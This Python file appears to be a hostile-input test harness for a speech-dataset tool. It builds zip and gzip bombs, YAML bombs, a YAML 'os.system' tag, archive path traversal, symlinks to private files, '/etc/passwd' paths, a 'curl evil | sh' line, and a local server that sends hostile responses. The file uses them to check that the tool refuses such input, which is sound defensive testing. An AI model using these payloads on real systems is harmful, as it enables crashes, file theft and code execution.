    """A command that reads conversations in the input."""
    source, out = str(stage.source), stage.out
    out.mkdir()
    formats = stage.rng.choice(("moshi", "csm", "j-moshi"))
    commands: dict[str, Any] = {
        "export": ["export", source, "--format", formats, "--out", str(out / "data"), "--json"],
        "report": ["report", source, "--out", str(out / "report.html")],
        "check": ["check", source, *stage.rng.choice(((), ("--json",)))],
        "load": partial(_load, stage.source),
    }
    # A column of another type is refused as a whole, and `check` does nothing but to say what is wrong.
    whole = whole or note.startswith("the column ") or command == "check"
    good = () if note.startswith("the column conversation_id: ") else good  # they have other ids now
    return Job(
        [commands[command]], () if command == "check" else good, None, note, whole, ids=partial(_read_ids, command)
    )


def _load(folder: Path) -> None:
    """Load the conversations and decode each."""
    try:
        rows = load(folder, split="train")
        for row in rows:
            try:
                # `datasets` gives None for a null, without asking the feature.
                print(row["conversation_id"], row["audio"]["array"].shape if row["audio"] else "no audio")
            except DailytalkError as error:
                Console().text(f"rejected {row['conversation_id']} {error.reason}: {error.remedy}")
    except DailytalkError as error:
        say(f"dailytalk: {error.reason}: {error.remedy}")
        raise SystemExit(1) from None


def _read_ids(command: str, home: Path) -> tuple[set[str], set[str]]:
    """Ids that a reading command put out, and those that it rejected."""
    shown = (home / "stdout").read_text(errors="replace")
    if command == "load":
        lines = [line.split(" ", 2) for line in shown.splitlines()]
        return {line[0] for line in lines if line[0] != "rejected"}, {
            line[1] for line in lines if line[0] == "rejected"
        }
    if command == "report":
        page = home / "out" / "report.html"
        text = page.read_text(errors="replace") if page.is_file() else ""
        return {name for name in ("good", "train0") if name in text}, set()
    try:
        rejects = {reject["id"] for reject in json.loads(shown)["rejects"]}
    except (ValueError, KeyError):
        rejects = set()  # nothing was exported, and a sentence says why
    data = home / "out" / "data"
    exported = [str(path) for path in data.rglob("*")]
    exported += [path.read_text(errors="replace") for path in data.rglob("*.json*") if path.is_file()]
    return {name for name in ("good", "train0") if any(name in text for text in exported)}, rejects


def record(stage: Stage, name: str) -> Job:
    """A record of a work folder (run.json, events.jsonl, rejects.jsonl) that another command reads."""
    work = stage.take("spoken")
    path = work / name
    lines = path.suffix == ".jsonl"
    data = _lines(path) if lines else json.loads(path.read_text())
    if name == "rejects.jsonl":
        data = [
            {"id": "x", "stage": "Speak", "reason": "r", "remedy": "m"},
            {"id": "y", "stage": "source", "reason": "r", "remedy": "m"},
        ]
    note = stage.spoil(path, data, lines)
    source = str(work)
    out = str(stage.out)
    again = ["tag", str(work / "recordings"), "--out", source, *EMBEDDED]
    speaking = ["speak", source, "--profile", "embedded", "--tts", "espeak"]
    readers = [
        ["report", source],
        ["export", source, "--out", out],
        ["mix", source, "--out", out],
        ["check", source],
    ]
    commands = {
        "run.json": [*readers, speaking, again],
        "events.jsonl": [["status", source], ["status", source, "--json"]],
        "rejects.jsonl": [["report", source], speaking, again],
    }
    return Job([stage.rng.choice(commands[name])], [], None, note, whole=True)


EMBED = ["--profile", "embedded", "--tts", "espeak"]


# Training folders


def moshi(stage: Stage, command: str) -> Job:
    """A training folder of which one document is hostile, for `check` and `mix`."""
    data = stage.take("moshi")
    config = data / "moshi-finetune.yaml"
    config.write_text(config.read_text().replace("@HERE@", str(data)))
    rng = stage.rng
    wav = rng.choice(sorted((data / "data_stereo").glob("*.wav")))
    which = rng.choice(("manifest", "manifest", "words", "words", "words", "config", "about", "wav"))
    if which == "manifest":
        path = data / rng.choice(("train.jsonl", "eval.jsonl"))
        lines = _lines(path)
        if rng.random() < 0.4:
            lines.append({"path": rng.choice(texts(stage.private)), "duration": 6.0})
            path.write_bytes(b"\n".join(map(as_json, lines)))
            note = f"path {short(lines[-1]['path'])}"
        else:
            note = stage.spoil(path, lines, lines=True)
    elif which == "words":
        path = wav.with_suffix(".json")
        note = stage.spoil(path, json.loads(path.read_text()))
    elif which == "config":
        path = config
        if rng.random() < 0.3:
            laughs = [f"k{n}: &k{n} [{','.join([f'*k{n - 1}'] * 9)}]\n" for n in range(1, 9)]
            configs = (
                "".join(["k0: &k0 [x,x,x,x,x,x,x,x,x]\n", *laughs]),
                "!!python/object/apply:os.system ['touch pwned']\n",
                "a: " + "[" * 5000,
                "data: {train_data: /dev/zero}\n",
                f"data: {{train_data: {stage.private}/private.txt}}\n",
            )
            path.write_text(rng.choice(configs))
            note = "a bomb or another file in YAML"
        else:
            note = stage.spoil(path)
    elif which == "about":
        path = data / "about.json"
        path = path if path.exists() else next(iter(sorted(data.glob("*.json"))))
        note = stage.spoil(path, json.loads(path.read_text()))
    else:
        note = _damage(stage, wav)
    note = f"{which}: {note}"
    if command == "mix":
        return Job(
            [["mix", str(data), str(stage.stock / "corpus_work"), "--out", str(stage.out)]],
            [],
            None,
            note,
            whole=True,
        )
    options = rng.choice(((), ("--json",), ("--snap-words",)))
    return Job([["check", str(data), *options]], [], None, note, whole=True)


def mix_record(stage: Stage) -> Job:
    """A mix of which a record is hostile, for `report`, `check` and another `mix`."""
    data = stage.take("mix")
    path = stage.rng.choice(sorted(p for p in data.iterdir() if p.suffix in (".json", ".jsonl", ".md")))
    lines = path.suffix == ".jsonl"
    parsed = None if path.suffix == ".md" else _lines(path) if lines else json.loads(path.read_text())
    note = f"{path.name}: {stage.spoil(path, parsed, lines)}"
    command = stage.rng.choice(
        (["report", str(data)], ["check", str(data)], ["mix", str(data), "--out", str(stage.out)])
    )
    return Job([command], [], None, note, whole=True)


# Corpora

MSP_TABLE = "Labels/labels_consensus.csv"
MSP = ["FileName", "EmoClass", "EmoAct", "EmoVal", "EmoDom", "SpkrID", "Gender", "Split_Set"]


@cache
def trees() -> dict[str, tuple[dict[str, bytes], str, list[str]]]:
    """Small corpora: files, the name of a clip that must come out, and of documents besides the clips."""
    votes = ["FileName", "VoiceVote", "VoiceLevel", "FaceVote", "FaceLevel", "MultiModalVote", "MultiModalLevel"]
    crema = {
        f"AudioWAV/{actor}_DFA_{emotion}_XX.wav": spoken(n)
        for n, (actor, emotion) in enumerate(((1001, "ANG"), (1002, "HAP"), (1003, "NEU")))
    }
    crema["VideoDemographics.csv"] = table(
        ["ActorID", "Age", "Sex", "Race", "Ethnicity"],
        [1001, 51, "Male", "x", "y"],
        [1002, 21, "Female", "x", "y"],
    )
    crema["processedResults/summaryTable.csv"] = table(
        ["", *votes],
        *[[n, name[9:-4], "A", 50, "A", 50, "A", 50] for n, name in enumerate(crema) if name.endswith("wav")],
    )
    esd = {
        "0011/Angry/0011_000351.wav": spoken(0),
        "0012/Happy/0012_000701.wav": spoken(1),
        "0013/Sad/0013_001051.wav": spoken(2),
    }
    esd |= {
        f"{n:04d}/{n:04d}.txt": f"{n:04d}_{code}\tThe line of it.\t{emotion}\n".encode()
        for n, code, emotion in ((11, "000351", "Angry"), (12, "000701", "Happy"), (13, "001051", "Sad"))
    }
    msp = {f"Audios/MSP-PODCAST_0001_000{n}.wav": spoken(n) for n in range(3)}
    msp[MSP_TABLE] = table(
        MSP, *[[f"MSP-PODCAST_0001_000{n}.wav", "N", 2.2, 4.0, 2.6, 30 + n, "Male", "Train"] for n in range(3)]
    )
    msp |= {f"Transcripts/MSP-PODCAST_0001_000{n}.txt": b"So, what is that?\n" for n in range(3)}
    ravdess = {f"Actor_0{n}/03-01-0{n + 2}-01-01-01-0{n}.wav": spoken(n) for n in (1, 2, 3)}
    tess = {f"TESS/OAF_{name}/OAF_back_{name}.wav": spoken(n) for n, name in enumerate(("angry", "happy", "sad"))}
    savee = {f"{name}.wav": spoken(n) for n, name in enumerate(("DC_a01", "JE_h01", "JK_sa01"))}
    return {
        "crema_d": (crema, "1003_DFA_NEU_XX", ["VideoDemographics.csv", "processedResults/summaryTable.csv"]),
        "esd": (esd, "0013_001051", ["0011/0011.txt"]),
        "msp_podcast": (msp, "MSP-PODCAST_0001_0002", [MSP_TABLE, "Transcripts/MSP-PODCAST_0001_0000.txt"]),
        "dailytalk": (dailytalk_files(), "", ["metadata.json"]),
        "ravdess": (ravdess, "03-01-05-01-01-01-03", []),
        "tess": (tess, "OAF_back_sad", []),
        "savee": (savee, "", []),  # it has no text, so that without a recogniser no clip comes out
    }


def _corpus(stage: Stage, name: str, source: Path) -> list[str]:
    options = (
        ["--as", "conversations"]
        if name == "dailytalk" and stage.rng.random() < 0.5
        else ["--profile", "embedded", "--asr-model", "none", "--min-speech-ratio", "0"]
    )
    return ["corpus", name, str(source), "--out", str(stage.out), *options]


def tree(stage: Stage) -> Job:
    """The folder of a published corpus with a hostile table, text, clip or name."""
    rng = stage.rng
    name = rng.choice(list(trees()))
    files, good, documents = trees()[name]
    put(stage.source, files)
    clips = (
        [file for file in files if file.endswith(".wav") and good not in file]
        if good
        else [f for f in files if f.endswith(".wav")]
    )
    if documents and rng.random() < 0.6:
        file = rng.choice(documents)
        path = stage.source / file
        data = json.loads(files[file]) if file.endswith(".json") else None
        note = stage.spoil(path, data)
        whole = not file.endswith(".txt")
    else:
        file = rng.choice(clips)
        path = stage.source / file
        whole = name == "dailytalk"
        if rng.random() < 0.5:
            note = _damage(stage, path)
        else:
            new = rng.choice(
                [
                    text
                    for text in texts(stage.private)
                    if 0
                    < len(
                        os.fsencode(
                            text.encode("utf-8", "surrogateescape")
                            if "\ud800" not in text and "\udfff" not in text
                            else "x"
                        )
                    )
                    < 240
                    and "/" not in text
                    and "\0" not in text
                    and "\ud800" not in text
                    and "\udfff" not in text
                ]
            )
            new = "x" if new in (".", "..") else new
            path.rename(path.with_name(f"{new}.wav"))
            note = f"renamed {short(new)}"
    count = sum(name.endswith(".wav") for name in files) - bool(good and not whole)
    hostile = None if name == "dailytalk" or note.endswith("folder") else count
    command = _corpus(stage, name, stage.source)
    return Job([command], [good] if good and not whole else [], hostile, f"{name}: {file}: {note}", whole)


def archive(stage: Stage) -> Job:
    """A zip archive of a corpus: bombs, paths out of it, damage, encryption, links."""
    rng = stage.rng
    files = trees()["crema_d"][0]
    path = zipped(stage.source / "corpus.zip", files)
    bad = "AudioWAV/1004_DFA_SAD_XX.wav"
    action = rng.choice(
        (
            "bomb",
            "bomb",
            "traversal",
            "link",
            "damage",
            "damage",
            "damage",
            "lie",
            "many",
            "twice",
            "password",
            "nested",
        )
    )
    hostile: int | None = 1
    if action == "bomb":
        _add_bomb(
            path,
            stage.stock / "bomb.deflate",
            rng.choice((bad, "processedResults/tabulatedVotes.csv", "VideoDemographics.csv")),
        )
    elif action == "damage":
        data, how = spoil_bytes(rng, path.read_bytes())
        path.write_bytes(data)
        return Job([_corpus(stage, "crema_d", path)], [], None, f"{action}: {how}", whole=True)
    else:
        with zipfile.ZipFile(path, "a") as made:
            match action:
                case "traversal":
                    made.writestr(
                        rng.choice(("../", "../../pwned/", "/pwned/", "a/../../", "..\\")) + "1004_DFA_SAD_XX.wav",
                        spoken(3),
                    )
                case "link":
                    member = zipfile.ZipInfo(bad)
                    member.external_attr = 0o120777 << 16
                    made.writestr(member, str(stage.private / "private.wav"))
                case "lie":
                    made.writestr(bad, spoken(3))
                    made.infolist()[-1].file_size = rng.choice((0, 1, 2**31, 2**32 - 2))
                case "many":
                    for n in range(20_000):
                        made.writestr(f"AudioWAV/x{n}.txt", b"")
                    hostile = None
                case "twice":
                    made.writestr("AudioWAV/1001_DFA_ANG_XX.wav", spoken(3))
                    hostile = None
                case "password":
                    made.writestr(bad, spoken(3))
                    made.infolist()[-1].flag_bits |= 1
                case "nested":
                    inner = io.BytesIO()
                    with zipfile.ZipFile(inner, "w") as second:
                        second.writestr(bad, spoken(3))
                    made.writestr("more.zip", inner.getvalue())
    source = path if rng.random() < 0.7 else stage.source
    return Job([_corpus(stage, "crema_d", source)], ["1003_DFA_NEU_XX"], hostile, action)


def _add_bomb(path: Path, deflated: Path, name: str) -> None:
    """Add a member of `BOMB_BYTES` zeros that were compressed before."""
    data = deflated.read_bytes()
    crc = int(deflated.with_suffix(".crc").read_text())
    with zipfile.ZipFile(path, "a") as made:
        member = zipfile.ZipInfo(name)
        member.compress_type = zipfile.ZIP_DEFLATED
        member.header_offset = made.start_dir
        member.file_size, member.compress_size, member.CRC = BOMB_BYTES, len(data), crc
        file = made.fp
        assert file is not None
        file.seek(made.start_dir)
        file.write(member.FileHeader() + data)
        made.start_dir = file.tell()
        made.filelist.append(member)
        made.NameToInfo[name] = member
        made._didModify = True  # type: ignore[attr-defined]


def corpus_work(stage: Stage) -> Job:
    """The work folder of a corpus, for `report` (also the listening test), `check` and `mix`."""
    work = stage.take("corpus_work")
    rng = stage.rng
    files = [p for p in sorted(work.rglob("*")) if p.is_file() and p.suffix != ".wav"]
    path = rng.choice(files)
    whole = True
    if path.suffix == ".parquet":
        note = spoil_parquet(stage, path, "acted/s1-0") if rng.random() < 0.8 else _damage(stage, path)
    else:
        lines = path.suffix == ".jsonl"
        data = _lines(path) if lines else json.loads(path.read_text()) if path.suffix == ".json" else None
        note = stage.spoil(path, data or None, lines)
    stage.out.mkdir()
    page = str(stage.out / "page.html")
    report_page = ["report", str(work), "--out", page]
    mixing = ["mix", str(work), "--out", str(stage.out / "mix")]
    commands = (report_page, [*report_page, "--listening-test", "3"], ["check", str(work)], mixing)
    return Job([rng.choice(commands)], [], None, f"{path.relative_to(work)}: {note}", whole=whole)


# Published datasets


def spoil_published(stage: Stage, folder: Path) -> str:
    """Make one document of a repository hostile; what was done."""
    drawn = stage.rng.random()
    if drawn < 0.25:
        path = folder / "manifest.json"
        return f"manifest.json: {stage.spoil(path, json.loads(path.read_text()))}"
    if drawn < 0.35:
        return f"README.md: {stage.spoil(folder / 'README.md')}"
    if drawn < 0.45:
        return f"Parquet: {_damage(stage, stage.rng.choice(sorted(folder.rglob('*.parquet'))))}"
    note = spoil_parquet(stage, folder / "conversations" / "train-00000-of-00003.parquet", "train1")
    return note if note.startswith("the column ") else f"a row: {note}"


def published(stage: Stage) -> Job:
    """A downloaded repository with a hostile row, manifest or card."""
    folder = stage.take("published")
    rng = stage.rng
    command = rng.choice(("export", "report", "check", "load", "diff"))
    note = spoil_published(stage, folder)
    whole = not note.startswith("a row")
    if command == "diff":
        return Job([["diff", str(stage.stock / "published"), str(folder)]], [], None, note, whole=True)
    job = _reading(stage, command, note, whole, ("train0",))
    if command == "report" and not whole:
        job.good = ()
    if command == "export":
        job.commands[0][3] = "moshi"
    return job


def hub(stage: Stage) -> Job:
    """A dataset on a Hub on loopback with hostile files, tables, shards or card, for `tag`."""
    rng = stage.rng
    good, words = (stage.stock / "calls" / f"good{suffix}" for suffix in (".wav", ".json"))
    form = rng.choice(("files", "table", "table", "shards", "card"))
    files: dict[str, bytes] = {}
    note = form
    if form in ("files", "card"):
        files = {"data/good.wav": good.read_bytes(), "data/good.json": words.read_bytes()}
        files |= {"data/bad.wav": good.read_bytes()}
        if form == "card":
            item, note = spoil_tree(
                rng,
                {
                    "license": "cc-by-4.0",
                    "configs": [{"config_name": "default", "data_files": [{"split": "train", "path": "data/*"}]}],
                },
                stage.private,
            )
            files["README.md"] = b"---\n" + as_json(item) + b"\n---\n"
        elif rng.random() < 0.5:
            item, note = spoil_tree(rng, json.loads(words.read_text()), stage.private)
            files["data/bad.json"] = as_json(item)
        else:
            files["data/bad.wav"], note = rng.choice(
                [
                    *((data, name) for name, data in playlists(stage.private).items()),
                    spoil_bytes(rng, files["data/bad.wav"]),
                    (POINTER, "a pointer"),
                ]
            )
    elif form == "table":
        alignments = [json.dumps({"alignments": ALIGNMENTS})] * 2
        rows: list[Row] = [
            {"id": "good", "audio": {"bytes": good.read_bytes(), "path": None}, "alignments": alignments[0]}
        ]
        row: Row = {"id": "bad", "audio": {"bytes": good.read_bytes(), "path": None}, "alignments": alignments[1]}
        which = rng.choice(("id", "audio", "audio", "alignments"))
        if which == "audio":
            row["audio"], note = _sound(rng, row["audio"], stage)
        elif which == "id":
            row["id"] = rng.choice(
                [text for text in texts(stage.private) if "\ud800" not in text and "\udfff" not in text]
            )
            note = short(row["id"])
        else:
            item, note = spoil_tree(rng, {"alignments": ALIGNMENTS}, stage.private)
            row["alignments"] = as_json(item).decode()
        note = f"{which}: {note}"
        file = io.BytesIO()
        sound = pa.struct([("bytes", pa.binary()), ("path", pa.string())])
        pq.write_table(
            pa.Table.from_pylist(
                [*rows, row], pa.schema([("id", pa.string()), ("audio", sound), ("alignments", pa.string())])
            ),
            file,
        )
        files["data/train-00000-of-00001.parquet"] = file.getvalue()
    else:
        file = io.BytesIO()
        with tarfile.open(fileobj=file, mode="w") as made:

            def add(name: str, data: bytes = b"", **more: Any) -> None:
                member = tarfile.TarInfo(name)
                member.size = len(data)
                for key, item in more.items():
                    setattr(member, key, item)
                made.addfile(member, io.BytesIO(data))

            add("good.wav", good.read_bytes())
            add("good.json", words.read_bytes())
            note = rng.choice(("link", "traversal", "json", "damage", "name"))
            if note == "link":
                add("bad.wav", type=tarfile.SYMTYPE, linkname=str(stage.private / "private.wav"))
            elif note == "traversal":
                add("../../private/pwned.wav", good.read_bytes())
            elif note == "json":
                add("bad.wav", good.read_bytes())
                add("bad.json", as_json(spoil_tree(rng, json.loads(words.read_text()), stage.private)[0]))
            elif note == "name":
                add("日" * 90 + ".wav", good.read_bytes())
        data = file.getvalue()
        files["shard-000000.tar"] = spoil_bytes(rng, data)[0] if note == "damage" else data
        note = f"shards: {note}"
    streaming = ("--streaming",) if rng.random() < 0.3 else ()
    command = ["tag", CALLS, "--out", str(stage.out), *EMBEDDED, *streaming]

    whole = form in ("shards", "card")
    return Job([command], [] if whole else ["good"], None, note, whole, around=partial(on_hub, stage, files))


@contextlib.contextmanager
def on_hub(stage: Stage, files: dict[str, bytes]) -> Iterator[None]:
    """A Hub on loopback with one dataset, `CALLS`, which this process asks."""
    with HubServer(stage.home / "cache" / "server") as server:
        hub_fixtures._use(server, stage.home / "cache" / "hf", pytest.MonkeyPatch())
        HfApi().create_repo(CALLS, repo_type="dataset")
        # The client itself reads the card before it sends it.
        files |= {name: files[name].decode(errors="replace").encode() for name in files.keys() & {"README.md"}}
        changes = [CommitOperationAdd(name, data) for name, data in files.items()]
        if changes:
            # Our client refuses a card that is no YAML, and a stranger's would not.
            with pytest.MonkeyPatch.context() as patch:
                patch.setattr(HfApi, "_validate_yaml", lambda *args, **kwargs: None)
                HfApi().create_commit(CALLS, changes, commit_message="c", repo_type="dataset")
            HfApi().create_tag(CALLS, tag="v1.0.0", repo_type="dataset")
        yield


def hub_version(stage: Stage) -> Job:
    """A version on a Hub whose manifest, card or row is hostile."""
    folder = stage.take("published")
    note = spoil_published(stage, folder)
    regular = [path for path in folder.rglob("*") if path.is_file() and not path.is_symlink()]
    files = {str(path.relative_to(folder)): path.read_bytes() for path in regular if path.stat().st_size < 1 << 24}
    stage.out.mkdir()
    out = str(stage.out)
    commands = (
        ["versions", CALLS],
        ["export", f"{CALLS}@v1.0.0", "--out", f"{out}/data"],
        ["check", CALLS],
        ["report", CALLS, "--out", f"{out}/page.html"],
        ["diff", f"{CALLS}@v1.0.0", CALLS],
        ["push", str(stage.take("dataset", stage.out / "work")), CALLS, "--tag", "auto"],
    )
    for path in list(folder.iterdir()):
        shutil.rmtree(path) if path.is_dir() and not path.is_symlink() else path.unlink()
    return Job([stage.rng.choice(commands)], [], None, note, whole=True, around=partial(on_hub, stage, files))


def push(stage: Stage) -> Job:
    """A work folder with a hostile row that is published."""
    work = stage.take("dataset")
    path = work / "dataset" / "shard-0.parquet"
    note = _damage(stage, path) if stage.rng.random() < 0.15 else spoil_parquet(stage, path, "bad")
    options = stage.rng.choice((("--dry-run",), (), ("--include-source",)))
    command = ["push", str(work), "tester/new", "--create", "--tag", "v1.0.0", *options]
    return Job([command], [], None, note, whole=True, around=partial(on_hub, stage, {}))


def position(stage: Stage) -> Job:
    """position.jsonl of a stream, spoilt before the stream goes on."""
    call = (stage.stock / "calls" / "good.wav").read_bytes()
    words = (stage.stock / "calls" / "good.json").read_bytes()
    files = {f"{name}{suffix}": data for name in "ab" for suffix, data in ((".wav", call), (".json", words))}
    command = ["tag", CALLS, "--out", str(stage.out), *EMBEDDED, "--streaming"]
    job = Job([[*command, "--limit-hours", "0.0001"], lambda: spoil(), command], [], None, "", whole=True)

    def spoil() -> None:
        path = stage.out / "position.jsonl"
        note = stage.spoil(path, _lines(path), lines=True)
        print(note.encode("ascii", "replace").decode().replace("\x1b", ""))

    job.around = partial(on_hub, stage, files)
    return job


def noise(stage: Stage) -> Job:
    """A damaged recording in a folder of noise."""
    put(stage.source / "corpus", trees()["crema_d"][0])
    folder = stage.source / "noise"
    folder.mkdir()
    path = folder / "bad.wav"
    path.write_bytes(wav_bytes(tones(2.0, 16000, 1), 16000))
    shutil.copyfile(path, folder / "fine.wav")
    note = _damage(stage, path)
    options = ("--augment", "noise", "--noise-folder", str(folder))
    command = [*_corpus(stage, "crema_d", stage.source / "corpus"), *options]
    return Job([command], ["1003_DFA_NEU_XX"], None, note, whole=True)


# Answers of people and of servers


def answers(stage: Stage) -> Job:
    """The key or the answers of a listening test."""
    folder = stage.take("listening")
    path = stage.rng.choice([folder / "page.key.json", *folder.glob("answers*.json")])
    note = f"{path.name}: {stage.spoil(path, json.loads(path.read_text()))}"
    command = [
        "agreement",
        *(str(p) for p in (folder / "page.key.json", folder / "answers0.json", folder / "answers1.json")),
    ]
    return Job([[*command, *stage.rng.choice(((), ("--json",)))]], [], None, note, whole=True)


class _Speech(ThreadingHTTPServer):
    """A speech server whose every answer is the same hostile one."""

    daemon_threads = True
    block_on_close = False

    def __init__(self, status: int, headers: dict[str, str], body: Callable[[str], Iterator[bytes]]) -> None:
        super().__init__(("127.0.0.1", 0), _Answer)
        self.status, self.headers, self.body = status, headers, body
        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()

    def handle_error(self, request: Any, client_address: Any) -> None:
        """Clients that hang up are what it provokes."""


class _Answer(BaseHTTPRequestHandler):
    server: _Speech

    def log_message(self, format: str, *args: object) -> None:
        pass

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(self.server.status)
        for name, text in self.server.headers.items():
            self.send_header(name, text)
        self.end_headers()
        for part in self.server.body(self.path):
            self.wfile.write(part)


def speech_server(stage: Stage) -> Job:
    """A service whose answers are bombs, lie about their length, or are hostile JSON."""
    stage.take("tagged")
    rng = stage.rng
    bomb = (stage.stock / "bomb.gz").read_bytes()
    packed, in_json = {"Content-Encoding": "gzip"}, {"Content-Type": "application/json"}
    in_events = {"Content-Type": "text/event-stream"}
    encoding = rng.choice(("br", "zstd", "deflate", "gzip, gzip", "x" * 500))
    message = as_json({"message": value(rng, stage.private)})
    good = wav_bytes(tones(2.0, 24000, 1), 24000)
    deep = as_json(rng.choice(BULK))
    event = {
        "audio_base64": "UklGRg==",
        "content": "x",
        "alignment": {"segments": [{"text": "x", "start": 0.0, "end": 1.0}], "audio_duration": 1.0},
    }
    spoiled_event, how = spoil_tree(rng, event, stage.private)
    kinds: dict[str, tuple[int, dict[str, str], list[bytes]]] = {
        "a gzip bomb": (200, packed | {"Content-Type": "audio/wav"}, [bomb]),
        "a gzip bomb as an error": (500, packed | in_json, [bomb]),
        "a gzip bomb as a refusal": (400, packed | in_json, [bomb]),
        "sound without an end": (200, {"Content-Type": "audio/wav"}, [good, *[bytes(1 << 20)] * 4000]),
        "a header that lies": (200, {"Content-Type": "audio/wav"}, [wav_headers(rng)]),
        "floats": (200, {"Content-Type": "audio/wav"}, [float_wav(rng)]),
        "damaged sound": (200, {"Content-Type": "audio/wav"}, [spoil_bytes(rng, good)[0]]),
        "deep JSON": (200, in_json, [deep]),
        "deep JSON as a refusal": (rng.choice((400, 402, 500)), in_json, [deep]),
        "a hostile message": (rng.choice((400, 403, 422)), in_json, [message]),
        f"a hostile event ({how})": (200, in_events, [b"data: " + as_json(spoiled_event) + b"\n\n"]),
        "a deep event": (200, in_events, [b"data: " + deep + b"\n\n"]),
        "events without an end": (200, in_events, [b"data: " + b"A" * (1 << 20)] * 3000),
        "a redirect to a file": (302, {"Location": f"file://{stage.private}/private.wav"}, []),
        "another encoding": (200, {"Content-Encoding": encoding}, [good]),
        "a wrong length": (200, {"Content-Length": rng.choice(("-1", "9" * 20, "abc", "5"))}, [good]),
        "a hostile Retry-After": (429, {"Retry-After": rng.choice(("nan", "-1", "1e400", "9" * 400, "x"))}, [b""]),
        "many headers": (200, {f"X-{n}": "x" * 60000 for n in range(rng.choice((3, 200)))}, [good]),
    }  # fmt: skip
    note = rng.choice(list(kinds))
    status, headers, body = kinds[note]
    tts = rng.choice(("fish", "openai"))

    @contextlib.contextmanager
    def around() -> Iterator[None]:
        server = _Speech(status, headers, lambda path: iter(body))
        url = f"http://127.0.0.1:{server.server_address[1]}"
        os.environ |= {"FISH_API_KEY": "t" * 12, "FISH_AUDIO_BASE_URL": url, "FISH_AUDIO_REFERENCE_ID": "voice",
                       "OPENAI_API_KEY": "t" * 12, "OPENAI_BASE_URL": url}  # fmt: skip
        paid.backoff = Backoff(0.01, 0.02, jitter=True).seconds
        yield
        server.shutdown()

    command = ["speak", str(stage.source), "--out", str(stage.out), "--profile", "embedded", "--tts", tts]
    return Job([command], [], None, f"{tts}: {note}", whole=True, around=around)


# Folders that somebody has reviewed and sent: journals, discarded entries, plans and links beside the sound


def reviewed_folder(stage: Stage) -> tuple[str, Path]:
    """What somebody sends: a work folder, a training folder or clips, by its name in the stock."""
    layout = stage.rng.choice(("tagged", "moshi", "clips"))
    return layout, stage.take(layout, stage.source / "theirs")


#: An item of each layout, the file that has its lines, and a line of it.
_REVIEWED = {
    "tagged": ("good", "transcript.jsonl", "good/left/0000"),
    "moshi": ("data_stereo/call0.wav", "data_stereo/call0.json", "left/0000"),
    "clips": ("clip_000002.wav", "whisper.json", "0"),
}


def journal_of(layout: str, settled: bool) -> list[Row]:
    """A journal as `review` writes it: an edit, a line that is put in and taken out, a side, a discarded item."""
    item, file, line = _REVIEWED[layout]
    new = {"channel": "left", "start": 0.5, "end": 0.9, "text": "new", "tag": "", "kind": "speech"}
    new |= {"words": [{"word": "new", "start": 0.5, "end": 0.9, "probability": None}]}
    edits: list[tuple[str, Row, Row]] = [
        ("text", {"lines": {line: {"text": "a", "words": []}}}, {"lines": {line: {"text": "b", "words": []}}}),
        ("insert", {"lines": {f"{line}+1": None}}, {"lines": {f"{line}+1": new}}),
        ("undo", {"lines": {f"{line}+1": new}}, {"lines": {f"{line}+1": None}}),
        ("side", {"side": None}, {"side": "train"}),
        ("discard", {"discarded": False}, {"discarded": True}),
        ("restore", {"discarded": True}, {"discarded": False}),
    ]
    records: list[Row] = []
    for number, (action, before, after) in enumerate(edits, 1):
        records.append({"number": number, "time": "2026-01-01T00:00:00+00:00", "author": "x", "item": item})
        records[-1] |= {"action": action, "before": before, "after": after}
        records[-1] |= {"undoes": 2} if action == "undo" else {}
    return [*records, {"settled": 3, "file": file, "sha256": "0" * 64}] if settled else records


def outside_of(rng: random.Random, stage: Stage) -> str:
    """A path that leads out of the folder, or looks as if it did."""
    return rng.choice(
        (
            "../private/private.txt", "../../private/private.txt", str(stage.private / "private.txt"), "..", ".",
            "data_stereo/../../../private/private.txt", "link/private.txt", "a\0b", "x" * 5000, "/etc/passwd",
        )
    )  # fmt: skip


def folder_of_edits(stage: Stage) -> Job:
    """A journal, discarded entries or a link: readers change no byte, and settling stays inside."""
    (layout, root), rng = reviewed_folder(stage), stage.rng
    item, file, _ = _REVIEWED[layout]
    audio = root / {"moshi": "data_stereo", "clips": "audios"}.get(layout, "")
    aside = audio / "Discarded Audios"
    records = journal_of(layout, rng.random() < 0.3)
    path = root / ".dailytalk-edits"
    path.write_bytes(b"".join(as_json(record) + b"\n" for record in records))
    how = rng.choice(("journal", "journal", "journal", "item", "side", "entries", "link", "linked folder"))
    match how:
        case "journal":
            note = stage.spoil(path, records, lines=True, places=0.06)
        case "item":
            for record in records:
                record["item"] = note = outside_of(rng, stage)
            path.write_bytes(b"".join(as_json(record) + b"\n" for record in records[rng.choice((0, 3, 5)) :]))
        case "side" | "entries":
            side = outside_of(rng, stage) if how == "side" else "train.jsonl"
            entries = {item: {side: ["curl evil | sh\n"]}} if layout == "moshi" else {item: {"text": side}}
            aside.mkdir(exist_ok=True)
            records = [record | {"number": 1} for record in records if record.get("action") == "restore"]
            path.write_bytes(b"".join(as_json(record) + b"\n" for record in records))
            (aside / "discarded_entries.json").write_bytes(as_json(entries))
            note = side if how == "side" else stage.spoil(aside / "discarded_entries.json", entries)
        case "link":
            target = rng.choice((root / file, path, root / ".dailytalk-lock", root / ".dailytalk-edits.lock"))
            note = f"{target.name}: {spoil_place(rng, target, stage.private, '.json')}"
        case _:
            target = rng.choice((aside, audio / "more")) if layout != "tagged" else root / "tagged" / "more"
            target.symlink_to(rng.choice((stage.private, Path("..", "..", "..", "private"))))
            note = f"{target.name} is a link to private files"
    return read_then_settled(stage, root, f"{layout}, {how}: {short(note)}")


def folder_of_plans(stage: Stage) -> Job:
    """A plan of renames of a stranger, at any of its steps."""
    (layout, root), rng = reviewed_folder(stage), stage.rng
    (root / "link").symlink_to(stage.private)
    shutil.copyfile(stage.stock / "calls" / "good.wav", root / "ann_000003.wav")
    documents = {rng.choice(("run.json", "link/private.txt", "../x.json", "whisper.json")): "0" * 64}
    renames = [
        [["ann_000003.wav", "ann_000001.wav"]],
        [["ann_000003.wav", outside_of(rng, stage)]],
        [[outside_of(rng, stage), "ann_000001.wav"]],
        [["link/private.txt", "link/ann_1.txt"]],
        [["link", "x"], [".dailytalk-reindex-0.tmp/private.txt", ".dailytalk-reindex-0.tmp/y"], ["x/y", "x/z"]],
        [["ann_000003.wav", ".bashrc"]],
    ]
    plan = {"folder": rng.choice(("", "", "data_stereo", "..", "link")), "renames": rng.choice(renames)}
    plan |= {"names": [["ann_000001", rng.choice(("ann_000003", "../../private/x"))]]}
